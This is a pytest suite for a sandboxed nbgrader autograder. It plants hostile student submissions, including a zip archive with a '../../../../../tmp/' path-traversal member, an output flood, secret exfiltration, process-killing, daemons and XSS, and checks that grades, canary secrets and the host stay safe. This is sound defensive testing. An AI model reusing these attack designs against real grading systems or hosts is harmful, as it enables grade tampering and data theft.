    write(root, "mutation", "03-gpt", submission("03-gpt", {"causal_attention": MUTATING_ATTENTION}))
    write(root, "zeroing", "02-elmo", submission("02-elmo", {"Highway": ZEROING_HIGHWAY}))
    write(root, "shadowing", "02-elmo", submission("02-elmo", {"Highway": SHADOWING_HIGHWAY}))
    # 2., 3., 5. exfiltration, gradebook and host writes, network
    # (and the course library, delegated to: the answers of skipgram_pairs and noise_distribution)
    write(
        root,
        "exfil",
        "01-word2vec",
        submission(
            "01-word2vec",
            {"sgns_loss": EXFIL_ANSWER, **{k: fill(v, ctx) for k, v in LIBRARY.items()}},
            {
                "setup": [
                    fill(LIBRARY_PROBE, ctx),
                    fill(EXFIL_FILES, ctx),
                    EXFIL_SESSION,
                    fill(EXFIL_WRITES, ctx),
                    fill(EXFIL_NETWORK, ctx),
                ],
                "test_sgns_loss_visible": [EXFIL_SESSION],
            },
        ),
    )
    # 4. other processes, and a daemon
    write(root, "killer", "02-elmo", submission("02-elmo", extra={"setup": [KILLER, fill(DAEMON, ctx)]}))
    # 5. limits, with correct answers
    write(
        root,
        "probe",
        "03-gpt",
        submission(
            "03-gpt", answers["03-gpt"], {"setup": [PROBE_INFO, PROBE_FORKS, PROBE_MEMORY, PROBE_DISK, PROBE_KERNEL]}
        ),
    )
    # a flood of cells that print
    flood = submission("01-word2vec")
    flood.cells += [nbformat.v4.new_code_cell("print('z' * 30_000)") for _ in range(800)]
    write(root, "flood", "01-word2vec", flood)
    # terminal escapes and forged reasons
    write(root, "escape", "01-word2vec", submission("01-word2vec", extra={"setup": [ESCAPE_NOTE, ESCAPE_DEATH]}))
    # 7. fragile cases
    sigint = dict(answers["02-elmo"])
    sigint["Highway"] = SIGINT_LOOP + sigint["Highway"]
    write(root, "sigint", "02-elmo", submission("02-elmo", sigint))
    edited = submission("01-word2vec", answers["01-word2vec"])
    for cell in edited.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id") == "test_skipgram_pairs_visible":
            meta["grade_id"] = "my_own_test"
        elif meta.get("grade_id") == "test_noise_distribution_visible":
            meta["grade"] = False
        elif meta.get("grade_id") == "test_sgns_loss_visible":
            meta["points"] = 100
        elif meta.get("grade_id") == "test_sgns_loss_hidden":
            meta["grade_id"] = "test_skipgram_pairs_hidden"  # a second copy of another test's id
    write(root, "metadata", "01-word2vec", edited)
    badmeta = submission("01-word2vec", answers["01-word2vec"])
    badmeta.cells.append(nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": {"grade_id": ["x"], "grade": True}}))
    write(root, "badmeta", "01-word2vec", badmeta)

    # 8., 9. the grader's memory; scripts for formgrader
    write(
        root,
        "bomber",
        "03-gpt",
        submission("03-gpt", {**answers["03-gpt"], "multi_head_causal_attention": BROADCAST_BOMB}),
    )
    write(root, "viewmix", "02-elmo", submission("02-elmo", {**answers["02-elmo"], "ScalarMix": VIEW_WRITING_MIX}))
    zeroing_sampler = {**answers["03-gpt"], "sample_next_token": LOGIT_ZEROING_SAMPLER}
    write(root, "nucleus", "03-gpt", submission("03-gpt", zeroing_sampler))
    xss = submission("03-gpt", {**answers["03-gpt"], "written_mask": XSS_WRITTEN}, {"causal_attention": [XSS_OUTPUTS]})
    xss.cells.append(nbformat.v4.new_markdown_cell(XSS_MARKDOWN))
    write(root, "xss", "03-gpt", xss)

    # 10. text no file can hold, work that grows with the square of its size, a scratch redefinition
    surrogate = submission("01-word2vec", answers["01-word2vec"], {"setup": [SURROGATE_PRINT, SURROGATE_RAISE]})
    surrogate.cells.append(nbformat.v4.new_markdown_cell(SURROGATE_MARKDOWN))
    folder = root / "submitted" / "surrogate" / "01-word2vec"
    folder.mkdir(parents=True)
    # json.dumps escapes the lone surrogate as \ud800, as a notebook file holds it; nbformat.write would refuse it
    (folder / "01-word2vec.ipynb").write_text(json.dumps(surrogate), encoding="utf-8")
    os.makedirs(os.path.join(os.fsencode(root / "submitted"), b"bad-\xff-name", b"01-word2vec"))
    bomb = submission("03-gpt", {**answers["03-gpt"], "written_mask": REFERENCES}, {"causal_attention": [NESTED_HTML]})
    write(root, "bomb", "03-gpt", bomb)
    scratch = submission("01-word2vec", answers["01-word2vec"])
    scratch.cells.append(nbformat.v4.new_code_cell(SCRATCH_REDEFINITION))
    write(root, "scratch", "01-word2vec", scratch)

    # 11. against the grader of issue 35: a time limit reported as tampering, keys built to collide, slow replays
    write(
        root,
        "slowcall",
        "01-word2vec",
        submission("01-word2vec", {**answers["01-word2vec"], "noise_distribution": SLOW_SECOND_CALL}),
    )
    write(root, "hashflood", "01-word2vec", submission("01-word2vec", answers["01-word2vec"], {"setup": [HASH_FLOOD]}))
    write(
        root,
        "pairflood",
        "01-word2vec",
        submission("01-word2vec", {**answers["01-word2vec"], "skipgram_pairs": COLLIDING_PAIRS}),
    )

    # 6. LMS downloads
    downloads.mkdir()
    stub = nbformat.writes(release_nb("01-word2vec")).encode()
    with zipfile.ZipFile(downloads / "zipslip.zip", "w") as archive:
        archive.writestr(f"../../../../../tmp/{ctx.mark}-zipslip_01-word2vec.ipynb", stub)
    (downloads / "twice_01-word2vec.ipynb").write_bytes(stub)
    with zipfile.ZipFile(downloads / "twice.zip", "w") as archive:
        archive.writestr("01-word2vec.ipynb", stub)
    with zipfile.ZipFile(downloads / "mallory_attempt_2026-01-05-10-00-00_work.zip", "w") as archive:
        archive.writestr("honest-01/honest-01_01-word2vec.ipynb", stub)

    ctx.feedback = [
        "hooks",
        "exfil",
        "killer",
        "probe",
        "escape",
        "honest-01",
        "flood",
        "surrogate",
        "bomb",
        "honest-03",
    ]


def gradebook_courses(base: Path) -> dict[str, Path]:
    """A course root whose gradebook.db holds manual scores and extra credit on test cells before grading (one release
    submission), as formgrader lets an instructor type them."""
    from word2bert_grader.outputs import gradebook
    from word2bert_grader.task import Result

    root = course(base / "planted")
    db = root / "gradebook.db"
    gradebook.generate(root, ["03-gpt"], db)
    gradebook.record(db, [Result(student="release", assignment="03-gpt")])
    write(root, "release", "03-gpt", release_nb("03-gpt"))
    con = sqlite3.connect(db)
    con.executescript("UPDATE grade SET extra_credit = 2, manual_score = 1;")
    con.commit()
    con.close()
    return {"planted": root}


# --- running make, and watching the machine while it runs -----------------------------------------


def make_autograde(
    root: Path, env: dict, timeout: float, extra: list[str] = (), jobs: int = 2, watcher: Watcher | None = None
) -> dict:
    cmd = ["make", "-s", "autograde", f"COURSE={root}", f"JOBS={jobs}", *extra]
    start = time.monotonic()
    process = subprocess.Popen(
        cmd, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True
    )
    if watcher is not None:
        watcher.watch(process.pid)
    try:
        out, err = process.communicate(timeout=timeout)
        timed_out = False
    except subprocess.TimeoutExpired:
        groups = _sandbox_cgroups(process.pid)
        os.killpg(process.pid, signal.SIGKILL)  # the grader's processes; the sandboxes die with their parent
        out, err = process.communicate()
        timed_out = True
        _remove_cgroups(groups)
    if watcher is not None:
        watcher.unwatch(process.pid)
    return {
        "rc": process.returncode,
        "stdout": out.decode("utf-8", "replace"),
        "stderr": err.decode("utf-8", "replace"),
        "timed_out": timed_out,
        "seconds": time.monotonic() - start,
    }


def _descendants(pid: int) -> list[int]:
    children: dict[int, list[int]] = {}
    for child, (ppid, _, _) in _proc_table().items():
        children.setdefault(ppid, []).append(child)
    found, todo = [], [pid]
    while todo:
        found.append(todo.pop())
        todo += children.get(found[-1], [])
    return found


def _sandbox_cgroups(pid: int) -> set[Path]:
    """The cgroups of the sandboxes under ``pid``: a grader killed from outside cannot remove them."""
    found = set()
    for p in _descendants(pid):
        try:
            lines = Path(f"/proc/{p}/cgroup").read_text(encoding="utf-8").splitlines()
        except OSError:
            continue
        for line in lines:
            _, controllers, path = line.split(":", 2)
            if "word2bert-" not in path:
                continue
            if not controllers:  # cgroup v2
                found.add(Path("/sys/fs/cgroup") / path.lstrip("/"))
            for c in set(controllers.split(",")) & {"memory", "pids"}:
                found.add(Path("/sys/fs/cgroup") / c / path.lstrip("/"))
    return found


def _remove_cgroups(groups: set[Path]) -> None:
    for _ in range(50):
        for group in list(groups):
            try:
                group.rmdir()
                groups.discard(group)
            except FileNotFoundError:
                groups.discard(group)
            except OSError:
                pass
        if not groups:
            return
        time.sleep(0.1)


def _proc_table() -> dict[int, tuple[int, str, int]]:
    """pid -> (ppid, cmdline, rss bytes) of every process of this machine."""
    page = os.sysconf("SC_PAGE_SIZE")
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as f:
                ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmdline = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
            with open(f"/proc/{entry}/statm", "rb") as f:
                rss = int(f.read().split()[1]) * page
        except (OSError, ValueError, IndexError):
            continue
        table[int(entry)] = (ppid, cmdline, rss)
    return table


class Watcher:
    """Samples the resident memory of the grader's own processes (not the sandboxes) five times a second."""

    def __init__(self):
        self.roots: set[int] = set()
        self.peak, self.peak_cmd = 0, ""
        self.sandbox_uids: set[int] = set()  # the host uids of bubblewrap and everything below it
        self.stop = threading.Event()
        self.page = os.sysconf("SC_PAGE_SIZE")
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def watch(self, pid: int) -> None:
        self.roots.add(pid)

    def unwatch(self, pid: int) -> None:
        self.roots.discard(pid)

    def _run(self) -> None:
        while not self.stop.wait(0.2):
            if self.roots:
                self._sample()

    def _sample(self) -> None:
        children: dict[int, list[int]] = {}
        rss: dict[int, int] = {}
        comm: dict[int, str] = {}
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    with open(f"/proc/{entry}/stat", "rb") as f:
                        name, fields = f.read().rsplit(b")", 1)
                        fields = fields.split()
                except (OSError, IndexError, ValueError):
                    continue
                children.setdefault(int(fields[1]), []).append(int(entry))
                rss[int(entry)] = int(fields[21]) * self.page
                comm[int(entry)] = name.split(b"(", 1)[-1].decode("utf-8", "replace")
        todo, seen = list(self.roots), set()
        while todo:
            pid = todo.pop()
            if pid in seen:
                continue
            seen.add(pid)
            # a sandbox (bubblewrap and all below it) is the cgroup's business; told apart by the
            # process tree, not the command line, which is empty while a killed sandbox exits
            if comm.get(pid) == "bwrap":
                self.sandbox_uids |= self._uids(pid, children)
                continue
            todo += children.get(pid, [])
            if rss.get(pid, 0) > self.peak:
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        cmdline = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
                except OSError:
                    cmdline = ""
                if "runner.py" in cmdline:
                    continue  # a sandbox run without bubblewrap (--unsafe-no-sandbox)
                self.peak, self.peak_cmd = rss[pid], (cmdline or f"[{comm.get(pid, '?')}]")[:200]

    @staticmethod
    def _uids(pid: int, children: dict[int, list[int]]) -> set[int]:
        uids, todo = set(), [pid]
        while todo:
            p = todo.pop()
            todo += children.get(p, [])
            try:
                with open(f"/proc/{p}/status", encoding="utf-8") as f:
                    uids |= {int(u) for line in f if line.startswith("Uid:") for u in line.split()[1:]}
            except (OSError, ValueError):
                continue
        return uids


class Listener:
    """A TCP listener on every address and an abstract Unix socket; records who connects."""

    def __init__(self, abstract: str):
        self.connections: list[str] = []
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen(16)
        self.tcp.settimeout(0.5)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))
        self.udp.settimeout(0.5)
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + abstract)
        self.unix.listen(16)
        self.unix.settimeout(0.5)
        self.stop = threading.Event()
        self.deadline = time.monotonic() + RUN_TIMEOUT + 300  # stops by itself in any case
        self.threads = [threading.Thread(target=self._accept, args=(s,), daemon=True) for s in (self.tcp, self.unix)]
        self.threads.append(threading.Thread(target=self._datagrams, daemon=True))
        for t in self.threads:
            t.start()

    def _accept(self, sock) -> None:
        while not self.stop.is_set() and time.monotonic() < self.deadline:
            try:
                conn, address = sock.accept()
            except OSError:
                continue
            self.connections.append(f"{sock.family.name} {address}")
            conn.close()

    def _datagrams(self) -> None:
        while not self.stop.is_set() and time.monotonic() < self.deadline:
            try:
                data, address = self.udp.recvfrom(4096)
            except OSError:
                continue
            self.connections.append(f"UDP {address} {data[:40]!r}")

    def close(self) -> None:
        self.stop.set()
        for t in self.threads:
            t.join(timeout=2)
        for s in (self.tcp, self.udp, self.unix):
            s.close()


def host_ips() -> list[str]:
    found = set()
    try:
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect(("10.255.255.255", 1))  # no packet is sent: only picks the outgoing address
        found.add(probe.getsockname()[0])
        probe.close()
    except OSError:
        pass
    try:
        found |= {a[4][0] for a in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    except OSError:
        pass
    return sorted(found - {"0.0.0.0"})


@dataclass
class Graded:
    ctx: Ctx
    run: dict
    grades: dict
    cells: dict
    grades_text: str
    grades_later: str  # grades.csv two seconds after the run (daemons would have rewritten it)
    procs_later: list[str]  # command lines still carrying an attack's marker, two seconds after
    peak_rss: int
    peak_cmd: str
    connections: list[str]
    side: dict  # the runs of the courses of their own
    sandbox_uids: set[int]  # the host uids the sandboxes' processes ran as


def _read_grades(root: Path) -> tuple[dict, str]:
    text = (root / "grades.csv").read_text(encoding="utf-8") if (root / "grades.csv").exists() else ""
    rows = {(r["student"], r["assignment"]): r for r in csv.DictReader(text.splitlines())}
    return rows, text


def _gradebook_scores(root: Path) -> dict:
    from nbgrader.api import Gradebook

    out = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", "word2bert") as gb:
        for assignment in gb.assignments:
            for sub in assignment.submissions:
                out[(sub.student.id, assignment.name)] = {
                    "score": sub.score,
                    "max_score": sub.max_score,
                    "cells": {
                        g.name: g.auto_score
                        for g in sub.notebooks[0].grades
                        if g.name not in grade_cells(assignment.name, written=True)
                    },
                }
    return out


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    token = uuid.uuid4().hex[:12]
    home = base / "home"
    (home / ".ssh").mkdir(parents=True)
    secrets = {k: f"{k}-canary-{uuid.uuid4().hex}" for k in ("solution", "env", "ssh", "classmate")}
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{secrets['ssh']}\n", encoding="utf-8")
    listener = Listener(f"w2b-hostile-{token}")
    ctx = Ctx(
        root=course(base / "class"),
        home=home,
        port=listener.port,
        abstract=f"w2b-hostile-{token}",
        host_ips=host_ips(),
        mark=f"w2b-hostile-{token}",
        secrets=secrets,
    )
    plant_solution_canary(ctx.root, secrets["solution"])
    # Lines of the grader's and the library's own code (the attack names the files, never their text).
    secrets["grader"] = "Grade one submission: its code in a sandbox, the tests here"
    secrets["library"] = next(
        line
        for line in (ROOT / "lib" / "word2bert" / "word2vec.py").read_text(encoding="utf-8").splitlines()
        if len(line) > 30 and "'" not in line and "\\" not in line
    )
    downloads = base / "downloads"
    build_class(ctx, downloads)

    path = f"{ROOT / '.venv' / 'bin'}:{os.environ.get('PATH', '/usr/bin:/bin')}"
    env = {**os.environ, "HOME": str(home), "W2B_HOSTILE_SECRET": secrets["env"], "PATH": path}
    saved_path, os.environ["PATH"] = os.environ.get("PATH"), path  # nbgrader runs `alembic` (gradebooks below)
    # Courses of their own, graded beside the main class: a sandbox that stops reading, and a gradebook with planted
    # hand scores (in a thread).
    side: dict = {}
    stall_root = course(base / "stall")
    write(stall_root, "stall", "03-gpt", submission("03-gpt", solution_code("03-gpt"), {"setup": [STALL]}))
    # Replays bounded by their own budget, shrunk (with the student's own cells') so that the run stays short.
    replay_root = course(base / "replay")
    with open(replay_root / "nbgrader_config.py", "a", encoding="utf-8") as config:
        config.write("\nc.SandboxGrader.student_seconds = 30\nc.SandboxGrader.replay_seconds = 40\n")
    replayer = submission("01-word2vec", solution_code("01-word2vec"), {"setup": [SLOW_CELL] * 6 + [KILL_ON_NAMES]})
    write(replay_root, "replayer", "01-word2vec", replayer)

    # Downloads that collect nothing, whose only zip holds a member named with escape sequences: the run ends
    # early, with the downloads' problems as its only output.
    nothing_root, nothing_downloads = course(base / "nothing"), base / "nothing-downloads"
    nothing_downloads.mkdir()
    with zipfile.ZipFile(nothing_downloads / "mallory.zip", "w") as archive:
        archive.writestr(ESCAPE_MEMBER, "not a notebook")

    def side_runs():
        side["stall"] = make_autograde(stall_root, env, STALL_LIMIT, jobs=1)
        side["replay"] = make_autograde(replay_root, env, 600, jobs=1)
        side["replay"]["root"] = replay_root
        side["nothing"] = make_autograde(nothing_root, env, 300, [f"DOWNLOADS={nothing_downloads}"], jobs=1)

    def gradebook_runs():
        try:
            roots = gradebook_courses(base / "gradebooks")
            for name, root in roots.items():
                side[name] = make_autograde(root, env, 300, jobs=1)
                side[name]["root"] = root
        except BaseException as error:  # reported by the tests that need them (nbgrader may sys.exit)
            side["gradebook_error"] = repr(error)

    threads = [threading.Thread(target=side_runs), threading.Thread(target=gradebook_runs)]
    for t in threads:
        t.start()
    watcher = Watcher()
    try:
        run = make_autograde(
            ctx.root,
            env,
            RUN_TIMEOUT,
            [f"DOWNLOADS={downloads}", "ARGS=--feedback-for " + " ".join(ctx.feedback)],
            watcher=watcher,
        )
        (base / "make-output.txt").write_text(run["stdout"] + run["stderr"], encoding="utf-8")  # to read after
        grades, text = _read_grades(ctx.root)
        time.sleep(2)
        _, later = _read_grades(ctx.root)
        procs = [cmd for _, cmd, _ in _proc_table().values() if ctx.mark in cmd]
        for t in threads:
            t.join(timeout=RUN_TIMEOUT)
    finally:
        watcher.stop.set()
        listener.close()
        if saved_path is not None:
            os.environ["PATH"] = saved_path
    cells = _gradebook_scores(ctx.root) if (ctx.root / "gradebook.db").exists() else {}
    return Graded(
        ctx,
        run,
        grades,
        cells,
        text,
        later,
        procs,
        watcher.peak,
        watcher.peak_cmd,
        list(listener.connections),
        side,
        watcher.sandbox_uids,
    )


# --- reading the results --------------------------------------------------------------------------


def page_text(ctx: Ctx, student: str, assignment: str) -> str:
    path = ctx.root / "feedback" / student / assignment / f"{assignment}.html"
    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))


def probe(text: str, name: str):
    found = [line for line in text.splitlines() if line.startswith(f"PROBE-{name}: ")]
    assert found, f"the probe {name} printed nothing (did its cell run?)"
    return json.loads(found[-1].split(": ", 1)[1])


def every_output(ctx: Ctx) -> dict[Path, str]:
    """Every file grading wrote that a student or the instructor's summary shows."""
    files = {}
    for folder in ("feedback",):
        for path in (ctx.root / folder).rglob("*"):
            if path.is_file():
                files[path] = path.read_text(encoding="utf-8", errors="replace")
    files[ctx.root / "grades.csv"] = (ctx.root / "grades.csv").read_text(encoding="utf-8")
    return files


def score(g: Graded, student: str, assignment: str) -> float:
    return float(g.grades[(student, assignment)]["score"])


def cell_scores(g: Graded, student: str, assignment: str, prefix: str) -> float:
    return sum(v for k, v in g.cells[(student, assignment)]["cells"].items() if k.startswith(prefix))


def full(assignment: str) -> float:
    return sum(grade_cells(assignment).values())


# --- the run itself -------------------------------------------------------------------------------


def test_the_run_finishes_and_every_submission_has_a_row(graded):
    run = graded.run
    print(
        f"\nmain run: {run['seconds']:.0f} s; side runs: "
        + ", ".join(f"{k} {v['seconds']:.0f} s" for k, v in graded.side.items() if isinstance(v, dict))
    )
    # unsafe: a submission that hangs or kills the grader stops the batch
    assert not run["timed_out"] and run["rc"] == 0, run["stdout"][-3000:] + run["stderr"][-3000:]
    students = {
        "honest-01",
        "honest-02",
        "honest-03",
        "-h",
        "--feedback",
        "stderr-warner",
        "hooks",
        "lying",
        "badmeta",
        "mutation",
        "zeroing",
        "exfil",
        "killer",
        "probe",
        "flood",
        "escape",
        "sigint",
        "metadata",
        "mallory",
        "zipslip",
        "twice",
        "bomber",
        "xss",
        "viewmix",
        "nucleus",
        "surrogate",
        "bad-?-name",
        "shadowing",
        "bomb",
        "scratch",
        "slowcall",
        "hashflood",
        "pairflood",
    }
    # unsafe: an attack removes its own row (or a classmate's) from the grade sheet
    assert students <= {s for s, _ in graded.grades}, sorted(graded.grades)
    for s, a in graded.grades:
        if graded.grades[(s, a)]["status"] == "graded":
            assert (s, a) in graded.cells, f"{s}/{a} is missing from the gradebook"


def test_honest_students_keep_full_marks_and_their_files(graded):
    for student, assignment in (
        ("honest-01", "01-word2vec"),
        ("honest-02", "02-elmo"),
        ("honest-03", "03-gpt"),
        ("-h", "01-word2vec"),
        ("--feedback", "02-elmo"),
        ("stderr-warner", "03-gpt"),
    ):
        row = graded.grades[(student, assignment)]
        # unsafe: a classmate's attack (kill, overwrite, download named after them) costs them marks
        assert row["status"] == "graded" and float(row["score"]) == full(assignment), (student, row)
        assert graded.cells[(student, assignment)]["score"] == full(assignment), student
    for student, data in graded.ctx.before.items():
        a = {"01": "01-word2vec", "02": "02-elmo", "03": "03-gpt"}[student[-2:]]
        path = graded.ctx.root / "submitted" / student / a / f"{a}.ipynb"
        # unsafe: another student's code (or a zip member named after them) replaced their work
        assert path.read_bytes() == data, f"{student}'s submitted notebook changed"


def test_stderr_warnings_cost_nothing(graded):
    row = graded.grades[("stderr-warner", "03-gpt")]
    # unsafe: writing to stderr is counted as a failure
    assert float(row["score"]) == full("03-gpt") and row["status"] == "graded", row


# --- 1. score spoofing ----------------------------------------------------------------------------


def test_kernel_hooks_spoof_nothing_and_are_reported_as_tampering(graded):
    # unsafe: transformers, run_cell/showtraceback patches, shadowed builtins or lying comparisons score
    assert score(graded, "hooks", "01-word2vec") == 0, graded.grades[("hooks", "01-word2vec")]
    assert graded.cells[("hooks", "01-word2vec")]["score"] == 0
    text = page_text(graded.ctx, "hooks", "01-word2vec")
    assert any(line.startswith("test_skipgram_pairs_visible ... PASSED") for line in text.splitlines()), (
        "the attack cell ran (its fake output is shown)"
    )
    assert f"Score: 0 / {full('01-word2vec'):g}" in text, (
        "the page's score is the grader's, not the one the cell printed"
    )
    # unsafe: visible tests that passed only in the patched kernel go unnoticed by the instructor
    section = graded.run["stdout"].split("Tampering suspected", 1)
    assert len(section) == 2 and "hooks/01-word2vec" in section[1].split("\n\n")[0], graded.run["stdout"][-4000:]
    assert "tampering suspected" in graded.grades[("hooks", "01-word2vec")]["reason"]


def test_lying_objects_score_nothing(graded):
    # unsafe: a callable instance, an always-equal list, a lying tensor subclass or NaN passes a test
    assert score(graded, "lying", "01-word2vec") == 0, graded.grades[("lying", "01-word2vec")]


def test_the_library_is_not_importable_in_the_sandbox(graded):
    # unsafe: with the import hook removed and the profiler check disabled, the answers delegate to
    # the course library (or to the grader) and score
    assert cell_scores(graded, "exfil", "01-word2vec", "test_skipgram_pairs") == 0
    assert cell_scores(graded, "exfil", "01-word2vec", "test_noise_distribution") == 0
    text = page_text(graded.ctx, "exfil", "01-word2vec")
    assert "LIBRARY-IMPORTED: []" in text, [line for line in text.splitlines() if "LIBRARY" in line or "import" in line]


def test_in_place_mutation_of_the_inputs_spoofs_nothing(graded):
    # unsafe: causal_attention zeroes q, k, v in place (written back into the test's tensors) and
    # returns zeros; the tests compute their reference from the zeroed tensors and agree
    got = cell_scores(graded, "mutation", "03-gpt", "test_causal_attention")
    assert got == 0, f"a wrong causal_attention that zeroes its inputs earned {got} points"


def test_a_module_that_rewrites_its_parameters_spoofs_nothing(graded):
    # unsafe: Highway returns x / 2 and zeroes its Linear layers (copied back into the mirror); the
    # tests read the zeroed parameters after the call, and x / 2 is what zero layers give
    got = cell_scores(graded, "zeroing", "02-elmo", "test_Highway")
    assert got == 0, f"a Highway that returns x / 2 earned {got} points"


def test_module_attributes_cannot_shadow_the_parameters_the_tests_set(graded):
    # unsafe: the mirror's nn.Linear layers (whose forward runs in the grader) compute with the attributes of zeros
    # that the forged description put beside their parameters, so the hidden test's reference from the weights it
    # set is x / 2, which the wrong Highway returns
    got = cell_scores(graded, "shadowing", "02-elmo", "test_Highway")
    assert got == 0, f"a Highway that returns x / 2 and shadows its weights earned {got} points"


# --- 2. exfiltration ------------------------------------------------------------------------------


def test_no_secret_reaches_any_page_or_the_grade_sheet(graded):
    ctx = graded.ctx
    outputs = every_output(ctx)
    outputs[Path("stdout")] = graded.run["stdout"] + graded.run["stderr"]
    for name, secret in ctx.secrets.items():
        if name == "classmate":  # shown on honest-01's own page, rightly; nowhere else
            leaked = [p for p, text in outputs.items() if secret in text and "honest-01" not in str(p)]
        else:
            leaked = [p for p, text in outputs.items() if secret in text]
        # unsafe: the solutions, the grader's environment or code, a classmate's work or the host's
        # home directory were read by student code and printed into a page
        assert not leaked, f"the {name} canary leaked into {leaked}"
    graded_nb = ctx.root / "autograded" / "exfil" / "01-word2vec" / "01-word2vec.ipynb"
    assert ctx.secrets["solution"] in graded_nb.read_text(encoding="utf-8"), (
        "the canary is live: the instructor's graded copy holds the hidden tests"
    )
    assert ctx.secrets["classmate"] in page_text(ctx, "honest-01", "01-word2vec"), "the classmate's canary is live"


def test_the_sandbox_sees_none_of_the_host(graded):
    text = page_text(graded.ctx, "exfil", "01-word2vec")
    read = [line for line in text.splitlines() if line.startswith("EXFIL-READ")]
    readable = {line.split()[1] for line in read}
    # unsafe: the course folder, the repository (solutions, library, grader) or $HOME is mounted
    assert readable <= {"/etc/passwd", "/opt/word2bert-sandbox/runner.py"}, readable
    denied = [line for line in text.splitlines() if line.startswith("EXFIL-DENIED")]
    assert len(denied) >= 9 and all("FileNotFoundError" in line or "PermissionError" in line for line in denied), denied
    env = next(line for line in text.splitlines() if line.startswith("EXFIL-ENV"))
    # unsafe: the grader's environment (tokens, paths) is inherited
    assert "W2B_HOSTILE_SECRET" not in env and str(graded.ctx.home) not in env, env
    procs = {line.split()[1] for line in text.splitlines() if line.startswith("EXFIL-PROC")}
    # unsafe: other processes of the machine (the grader, classmates' sandboxes) are visible
    assert len(procs) <= 3, procs


def test_feedback_never_shows_hidden_tests(graded):
    hidden = hidden_lines()
    assert hidden, "the set of hidden lines is empty: the check would prove nothing"
    pages = sorted((graded.ctx.root / "feedback").glob("*/*/*.html"))
    # unsafe: feedback written for students who were not asked for (and costs time)
    assert {p.parts[-3] for p in pages} <= set(graded.ctx.feedback) | {"zipslip", "twice"}, pages
    for page in pages:
        text = html.unescape(re.sub(r"<[^>]+>", "", page.read_text(encoding="utf-8")))
        assert "BEGIN HIDDEN" not in text and "END HIDDEN" not in text, page
        leaked = hidden & {line.strip() for line in text.split("\n")}
        # unsafe: In/_ih, frames, exceptions or stack inspection carried hidden test source out
        assert not leaked, f"{page} shows hidden test source: {sorted(leaked)[:3]}"
    exfil = page_text(graded.ctx, "exfil", "01-word2vec")
    assert "EXFIL-FRAMES [(" in exfil, "the exception raised during the hidden tests is shown (so the check bites)"


# --- 3. the gradebook -----------------------------------------------------------------------------


def test_student_code_cannot_write_the_gradebook(graded):
    text = page_text(graded.ctx, "exfil", "01-word2vec")
    tried = [line for line in text.splitlines() if line.startswith("GRADEBOOK-")]
    con = sqlite3.connect(f"file:{graded.ctx.root / 'gradebook.db'}?mode=ro", uri=True)
    names = {n for (n,) in con.execute("SELECT name FROM sqlite_master")}
    con.close()
    # unsafe: a table or trigger of the student's in the course gradebook
    assert not {"pwned", "pwned_trigger"} & names, names
    # the attack ran: its writes failed (the sandbox's root is read-only), or went to its throw-away root
    assert tried, "the attack did not run"
    for path in ("/gradebook.db", ROOT / "gradebook.db"):
        assert not Path(path).exists() or b"pwned" not in Path(path).read_bytes(), path


def _side(graded, name) -> dict:
    assert "gradebook_error" not in graded.side, graded.side["gradebook_error"]
    return graded.side[name]


def test_a_gradebook_that_is_no_database_is_refused_with_the_reason(tmp_path, monkeypatch):
    """A gradebook.db of garbage stops the run with the refusal's message, not a traceback of sqlite3's."""
    from word2bert_grader.outputs import gradebook

    monkeypatch.setenv("PATH", f"{ROOT / '.venv' / 'bin'}:{os.environ.get('PATH', '/usr/bin:/bin')}")  # alembic
    root = course(tmp_path / "course")
    (root / "gradebook.db").write_bytes(b"\x00" * 100 + b"not a database")
    with pytest.raises(gradebook.RefusedGradebook, match="cannot be read as a gradebook"):
        gradebook.prepare(root, ["01-word2vec"], root / "gradebook.db")


def test_planted_scores_do_not_survive_regrading(graded):
    run = _side(graded, "planted")
    assert run["rc"] == 0, run["stderr"][-2000:]
    grades, _ = _read_grades(run["root"])
    book = _gradebook_scores(run["root"])[("release", "03-gpt")]
    # unsafe: manual scores and extra credit planted in gradebook.db before grading survive it, so
    # `nbgrader export` (the record) disagrees with grades.csv
    assert float(grades[("release", "03-gpt")]["score"]) == 0
    assert book["score"] == 0, f"the gradebook says {book['score']}/{book['max_score']} after regrading a 0"


# --- 4. classmates, processes, daemons ------------------------------------------------------------


def test_killing_everything_reaches_nothing_outside(graded):
    text = page_text(graded.ctx, "killer", "02-elmo")
    # unsafe: the sandbox shares the host's pid namespace (the attack then refuses to fire: it says so)
    assert any(line.startswith("PIDNS-GUARD ok ") for line in text.splitlines()), [
        line for line in text.splitlines() if "PIDNS" in line
    ]
    assert any(line.startswith("KILL signalled ") for line in text.splitlines()), "the kill loop ran"
    assert not [line for line in text.splitlines() if line.startswith("PROCMEM written")], (
        "a process's memory was written"
    )
    assert score(graded, "killer", "02-elmo") == 0


def test_daemons_die_with_their_sandbox(graded):
    ctx = graded.ctx
    # unsafe: a daemon (setsid, double fork) outlives grading and keeps rewriting grades.csv
    assert not graded.procs_later, graded.procs_later
